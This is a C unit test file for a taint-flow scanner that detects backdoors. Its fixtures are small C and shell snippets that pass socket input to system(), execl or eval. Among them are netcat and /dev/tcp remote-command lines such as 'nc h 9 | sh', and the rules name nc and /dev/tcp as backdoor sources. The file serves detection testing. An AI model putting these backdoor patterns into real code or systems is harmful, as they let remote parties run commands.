/* test_flow.c - the taint core (src/lib/flow.c) on small hand-made rules:
 * propagation, source order and loops, through calls, sanitizers, macros,
 * shell streams, spec diagnostics and hostile input.
 * SPDX-License-Identifier: Apache-2.0 */
#include "harness.h"
#include "lib/assay_int.h"

#include <stdlib.h>

static const char flow_yaml[] =
    "rules:\n"
    "  - id: t.flow.c\n"
    "    title: Net to system\n"
    "    category: backdoor\n"
    "    severity: critical\n"
    "    files: [c]\n"
    "    why: w\n"
    "    message: '{trace}'\n"
    "    match:\n"
    "      language: c\n"
    "      requires: [[recv, getenv]]\n"
    "      flow:\n"
    "        sources: ['recv:1', 'getenv:ret [0~^\"CMD\"$]']\n"
    "        sinks: ['system:0', 'execl:*']\n"
    "        through: ['strcpy:1>0', 'snprintf:2*>0']\n"
    "        sanitizers: [atoi]\n"
    "    examples:\n"
    "      match: ['void f(int s){char b[9]; recv(s,b,9,0); system(b);}']\n"
    "      no_match: ['void f(int s){char b[9]; recv(s,b,9,0); system(\"x\");}']\n"
    "  - id: t.flow.sh\n"
    "    title: Net to eval\n"
    "    category: backdoor\n"
    "    severity: critical\n"
    "    files: [shell]\n"
    "    why: w\n"
    "    message: '{source}|{path}|{sink}'\n"
    "    match:\n"
    "      language: bash\n"
    "      requires: [[nc, /dev/tcp]]\n"
    "      flow:\n"
    "        sources: ['nc:ret', 're:^/dev/tcp/']\n"
    "        sinks: ['eval:*', 'sh:-c', 'sh:stdin', '(dynamic)']\n"
    "        through: ['read:stdin>*']\n"
    "    examples:\n"
    "      match: ['x=$(nc h 1); eval \"$x\"']\n"
    "      no_match: ['x=$(nc h 1); echo \"$x\"']\n";

/* Number of findings, and the message of the first one (or ""). */
static size_t run(const char *path, const char *text, char *msg, size_t n,
                  uint32_t *line)
{
    assay_rules *rs = HARNESS_RULES("f.yaml", flow_yaml);
    assay_file_result *r;
    size_t count;
    msg[0] = '\0';
    if (!rs)
        return 999;
    r = harness_scan(rs, path, NULL, text, 0);
    if (!r) {
        assay_rules_free(rs);
        return 998;
    }
    count = assay_file_result_count(r);
    if (count) {
        const assay_finding *f = assay_file_result_get(r, 0);
        snprintf(msg, n, "%s", f->message);
        if (line)
            *line = f->start_line;
    }
    assay_file_result_free(r);
    assay_rules_free(rs);
    return count;
}

void test_flow__path_through_assignments_and_formatting(void)
{
    char msg[512];
    uint32_t line = 0;
    size_t n = run("a.c",
                   "void serve(int s) {\n"
                   "    char buf[64], cmd[128], *p;\n"
                   "    recv(s, buf, sizeof buf, 0);\n"
                   "    p = buf + 2;\n"
                   "    snprintf(cmd, sizeof cmd, \"run %s\", p);\n"
                   "    system(cmd);\n"
                   "}\n",
                   msg, sizeof msg, &line);
    CHECK_EQ_INT(n, 1);
    CHECK_EQ_STR(msg, "recv (line 3) -> buf -> p -> cmd -> system (line 6)");
    CHECK_EQ_INT(line, 6);
}

void test_flow__source_order_and_loops(void)
{
    char msg[512];
    /* the sink runs before the variable is tainted, and never again */
    CHECK_EQ_INT(run("a.c",
                     "void f(int s) {\n"
                     "    char buf[64], *cmd = \"ls\";\n"
                     "    system(cmd);\n"
                     "    recv(s, buf, sizeof buf, 0);\n"
                     "    cmd = buf;\n"
                     "}\n",
                     msg, sizeof msg, NULL),
                 0);
    /* in a loop, the next iteration runs it with the received bytes */
    CHECK_EQ_INT(run("a.c",
                     "void f(int s) {\n"
                     "    char buf[64], *cmd = \"ls\";\n"
                     "    for (;;) {\n"
                     "        system(cmd);\n"
                     "        recv(s, buf, sizeof buf, 0);\n"
                     "        cmd = buf;\n"
                     "    }\n"
                     "}\n",
                     msg, sizeof msg, NULL),
                 1);
}

void test_flow__through_sanitizer_and_unrelated(void)
{
    char msg[512];
    CHECK_EQ_INT(run("a.c",
                     "void f(int s) {\n"
                     "    char buf[64], cmd[64];\n"
                     "    recv(s, buf, sizeof buf, 0);\n"
                     "    strcpy(cmd, buf);\n"
                     "    execl(\"/bin/sh\", \"sh\", \"-c\", cmd, (char *)0);\n"
                     "}\n",
                     msg, sizeof msg, NULL),
                 1);
    CHECK(strstr(msg, "buf -> cmd -> execl") != NULL);
    /* a sanitizer's result is clean */
    CHECK_EQ_INT(run("a.c",
                     "void f(int s) {\n"
                     "    char buf[64], cmd[64];\n"
                     "    recv(s, buf, sizeof buf, 0);\n"
                     "    snprintf(cmd, 64, \"kill %d\", atoi(buf));\n"
                     "    system(cmd);\n"
                     "}\n",
                     msg, sizeof msg, NULL),
                 0);
    /* another variable, and a source condition that does not hold */
    CHECK_EQ_INT(run("a.c",
                     "void f(int s, char *job) {\n"
                     "    char buf[64];\n"
                     "    recv(s, buf, sizeof buf, 0);\n"
                     "    system(job);\n"
                     "    system(getenv(\"HOME\"));\n"
                     "}\n",
                     msg, sizeof msg, NULL),
                 0);
    CHECK_EQ_INT(run("a.c", "int main(void) { return system(getenv(\"CMD\")); }",
                     msg, sizeof msg, NULL),
                 1);
    CHECK_EQ_STR(msg, "getenv (line 1) -> system (line 1)");
}

void test_flow__pointer_alias(void)
{
    char msg[512];
    CHECK_EQ_INT(run("a.c",
                     "void f(int s) {\n"
                     "    char buf[64], *p = buf + 1;\n"
                     "    recv(s, buf, sizeof buf, 0);\n"
                     "    system(p);\n"
                     "}\n",
                     msg, sizeof msg, NULL),
                 1);
    CHECK_EQ_STR(msg, "recv (line 3) -> buf -> p -> system (line 4)");
    /* a value computed from the buffer before it was filled is not one */
    CHECK_EQ_INT(run("a.c",
                     "void f(int s) {\n"
                     "    char buf[64], *p = buf;\n"
                     "    int n = strlen(p) == 0;\n"
                     "    recv(s, buf, sizeof buf, 0);\n"
                     "    system(n ? \"a\" : \"b\");\n"
                     "}\n",
                     msg, sizeof msg, NULL),
                 0);
}

void test_flow__macro_hides_sink(void)
{
    char msg[512];
    static const char head[] = "#define RUN(tag, c) system(c)\n"
                               "#define SH system\n";
    char text[1024];
    snprintf(text, sizeof text,
             "%svoid f(int s) {\n"
             "    char b[64];\n"
             "    recv(s, b, sizeof b, 0);\n"
             "    RUN(b, \"ls\");\n"
             "}\n",
             head);
    CHECK_EQ_INT(run("a.c", text, msg, sizeof msg, NULL), 0);
    snprintf(text, sizeof text,
             "%svoid f(int s) {\n"
             "    char b[64];\n"
             "    recv(s, b, sizeof b, 0);\n"
             "    RUN(\"x\", b);\n"
             "    SH(b);\n"
             "}\n",
             head);
    CHECK_EQ_INT(run("a.c", text, msg, sizeof msg, NULL), 2);
    CHECK_EQ_STR(msg, "recv (line 5) -> b -> RUN (line 6)");
}

void test_flow__shell_streams(void)
{
    char msg[512];
    CHECK_EQ_INT(run("a.sh", "nc -l 9 | while read -r l; do eval \"$l\"; done\n",
                     msg, sizeof msg, NULL),
                 1);
    CHECK_EQ_STR(msg, "nc|l|eval");
    CHECK_EQ_INT(run("a.sh",
                     "exec 3<>/dev/tcp/h/9\n"
                     "read -r c <&3\n"
                     "sh -c \"$c\"\n",
                     msg, sizeof msg, NULL),
                 1);
    CHECK_EQ_INT(run("a.sh", "nc h 9 | sh\n", msg, sizeof msg, NULL), 1);
    CHECK_EQ_INT(run("a.sh", "c=$(nc h 9)\n$c\n", msg, sizeof msg, NULL), 1);
    /* read from a file, a probe with nc: nothing */
    CHECK_EQ_INT(run("a.sh",
                     "nc -z h 9 && echo up\n"
                     "while read -r l; do eval \"$l\"; done < /etc/x\n",
                     msg, sizeof msg, NULL),
                 0);
}

static int count_diags;
static void on_diag(const assay_diag *d, void *payload)
{
    (void)payload;
    if (d->is_error && strstr(d->message, "flow"))
        count_diags++;
}

void test_flow__bad_specs_are_reported(void)
{
    static const char *const bad[] = {
        "['system']", "['system:x']", "['system:0>1']", "['system:0 [zz]']"};
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        char y[1024];
        assay_compile_options o = ASSAY_COMPILE_OPTIONS_INIT;
        assay_rule_source s;
        assay_rules *rs = NULL;
        snprintf(y, sizeof y,
                 "rules:\n"
                 "  - id: t.bad\n"
                 "    title: t\n"
                 "    category: backdoor\n"
                 "    severity: high\n"
                 "    files: [c]\n"
                 "    why: w\n"
                 "    match:\n"
                 "      language: c\n"
                 "      flow: {sources: ['recv:1'], sinks: %s}\n"
                 "    examples: {match: [x], no_match: [y]}\n",
                 bad[i]);
        s.name = "bad.yaml";
        s.text = y;
        s.len = strlen(y);
        o.include_builtin = 0;
        o.on_diag = on_diag;
        count_diags = 0;
        CHECK(assay_rules_compile(&rs, &s, 1, &o) == ASSAY_ESYNTAX);
        CHECK(rs == NULL);
        CHECK_EQ_INT(count_diags, 1);
    }
}

void test_flow__hostile_input_is_bounded(void)
{
    char msg[512];
    size_t n = 200000, k = 0;
    char *t = malloc(n + 200);
    CHECK(t);
    /* deep nesting and a long chain of assignments in a loop */
    k += (size_t)sprintf(t + k, "void f(int s){char b[9]; recv(s,b,9,0);"
                                "while(1){ system(");
    for (size_t i = 0; i < 50000; i++)
        t[k++] = '(';
    t[k++] = 'b';
    for (size_t i = 0; i < 50000; i++)
        t[k++] = ')';
    k += (size_t)sprintf(t + k, ");}}\n");
    (void)run("h.c", t, msg, sizeof msg, NULL); /* must simply return */
    k = (size_t)sprintf(t, "void f(int s){char v0[9]; recv(s,v0,9,0);"
                           "for(;;){");
    for (int i = 1; i < 4000 && k < n; i++)
        k += (size_t)sprintf(t + k, "v%d=v%d;", i + 1, i);
    k += (size_t)sprintf(t + k, "v1=v0; system(v4000);}}\n");
    (void)run("h.c", t, msg, sizeof msg, NULL);
    free(t);
}

void test_flow__tables_match_grammars(void)
{
    char bad[2048];
    int n = assay__flow_check_tables(bad, sizeof bad);
    if (n)
        fprintf(stderr, "  unknown node types: %s\n", bad);
    CHECK_EQ_INT(n, 0);
}
